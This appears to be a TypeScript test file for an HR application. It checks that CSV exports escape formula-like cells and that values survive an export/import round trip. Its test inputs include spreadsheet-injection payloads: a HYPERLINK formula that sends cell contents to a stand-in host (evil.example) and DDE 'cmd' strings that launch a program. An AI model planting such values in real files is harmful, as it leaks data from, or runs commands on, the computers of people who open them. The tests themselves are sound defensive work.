/** CSV files contain no formulas, whatever the names of people, and lose nothing in a round trip. */
import { readFile } from 'node:fs/promises';
import { departments } from '@muster/contract/resources/departments.ts';
import { employees } from '@muster/contract/resources/employees.ts';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { readCell, writtenCell } from '../../server/platform/tabular/csv-cells.ts';
import { allListed, type BulkService, bulkService } from '../support/commands/bulk.ts';
import { createExample, pathOf } from '../support/examples.ts';
import { hired, newCompany } from '../support/people/people.ts';

let service: BulkService;
let company: Awaited<ReturnType<typeof newCompany>>;

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "'=1+1",
  "''@x",
];
const harmless = ['+33123456789', '-5', '+33 1 23 45 67 89', '-3.5', 'a=b', "'quoted'", 'x;y', ''];

beforeAll(async () => {
  service = await bulkService();
  company = await newCompany(service);
});
afterAll(() => service.stop());

test.each([...formulas, ...harmless])('a cell of %j is read as it was written', (text) => {
  expect(readCell(writtenCell(text))).toBe(text);
});

test.each(harmless)('%j stays as it is', (text) => expect(writtenCell(text)).toBe(text));

test('no cell of an export begins like a formula', async () => {
  const { client } = company;
  for (const [index, name] of formulas.entries()) {
    await hired(client, company, { employeeNumber: name, familyName: `${index}`, phoneNumber: '+33123456789' });
    await createExample(client, departments, { name, description: name });
  }
  for (const resource of [employees, departments]) {
    const { stdout } = await service.muster(
      ...['export', resource.path, '--account', company.account.name, '--format', 'csv'],
    );
    const cells = (parse(stdout) as string[][]).flat().filter((cell) => !/^\+33\d+$/.test(cell));
    expect(cells.filter((cell) => /^[=+\-@\t\r\n\uff1d]/.test(cell))).toEqual([]);
    expect(stdout).toContain('"\'=HYPERLINK');
  }
});

test('an import restores the values of an export', async () => {
  const file = await service.file('out.csv', '');
  await service.muster(
    ...['export', employees.path, '--account', company.account.name, '--format', 'csv', '--output', file],
  );
  const members = ['givenName', 'familyName', 'employeeNumber', 'phoneNumber'];
  const rows = parse(await readFile(file), { columns: true }) as Record<string, string>[];
  const other = await newCompany(service);
  const position = 'firstEmployment.firstJobPosition';
  const places = {
    'firstEmployment.template.id': other.template.id,
    [`${position}.businessEstablishment.id`]: other.place.id,
    [`${position}.department.id`]: other.department.id,
  };
  const again = stringify(
    rows.map((row) => [...members.map((name) => row[name]), ...Object.values(places)]),
    { header: true, columns: [...members, ...Object.keys(places)] },
  );
  const { stdout } = await service.muster(
    ...['import', 'employees', await service.file('in.csv', again), '--account', other.account.name],
  );
  expect(stdout).toContain(`${formulas.length} hired`);
  const [from, to] = [company, other].map(({ client }) => allListed(client, pathOf(employees)));
  const shown = async (rows: typeof from) => (await rows)?.map((row) => members.map((name) => row[name]));
  expect(await shown(to)).toEqual(await shown(from));
});
